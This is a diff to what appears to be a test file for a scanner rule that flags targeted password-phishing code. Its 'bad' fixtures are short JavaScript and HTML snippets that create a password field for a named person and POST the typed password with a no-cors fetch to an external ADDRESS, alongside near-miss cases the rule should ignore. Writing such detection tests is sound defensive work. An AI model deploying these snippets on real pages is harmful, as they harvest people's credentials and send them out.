@@ -30,3 +30,24 @@ test('good: nobody is named, somebody has to press something, or a mail is writt
     `fetch("${ADDRESS}?e=j.doe@firm.example")`,
   ]) assert.deepEqual(said(rule, { 'a.js': code }), [], code);
 });
+
+test('bad: one person is asked for a password; good: whoever comes, with a field for who they are, a mail that is only shown, no server', () => {
+  const send = (body: string): string => `field.form.onsubmit = () => fetch("${ADDRESS}", { method: "POST", mode: "no-cors", body: ${body} });`;
+  const field = 'const field = document.createElement("input"); field.type = "password"; document.body.append(field);';
+  const who = 'const who = "j.doe@firm.example";';
+  for (const code of [
+    `${who} ${field} ${send('JSON.stringify({ u: who, p: field.value })')}`,
+    `${who} document.body.innerHTML = '<form><input name="p" type="password"></form>'; const field = document.forms[0].p; ${send('new URLSearchParams(`u=${who}&p=${field.value}`)')}`,
+    `const field = make("input", { type: "password" }); const data = new FormData(); data.append("u", "j.doe@firm.example"); ${send('data')}`,
+  ]) {
+    assert.equal(said(rule, { 'a.js': code }).some((each) => each.startsWith('high a.js')), true, code);
+    assert.equal(said(rule, { 'a.html': `<p>Opening</p>\n<script>${code}</script>` }).some((each) => each.startsWith('high a.html')), true, code);
+  }
+  for (const code of [
+    `${field} const mail = make("input", { type: "email", value: "demo@firm.example" }); ${send('JSON.stringify({ u: mail.value, p: field.value })')}`,
+    `${who} ${field} show("Ask " + who); link({ href: who, textContent: who }); ${send('JSON.stringify({ code: code.value, p: field.value })')}`,
+    `document.body.innerHTML = '<input name="u" value="demo@firm.example"><input name="p" type="password">'; const demo = { u: "demo@firm.example" }; ${send('data')}`,
+    `${who} ${field} module.exports = { who }; exports.send = () => { ${send('JSON.stringify({ u: who, p: field.value })')} }`,
+    `${who} ${field} fetch("/login", { method: "POST", body: JSON.stringify({ u: who, p: field.value }) })`,
+  ]) assert.equal(said(rule, { 'a.js': code }).some((each) => each.startsWith('high')), false, code);
+});
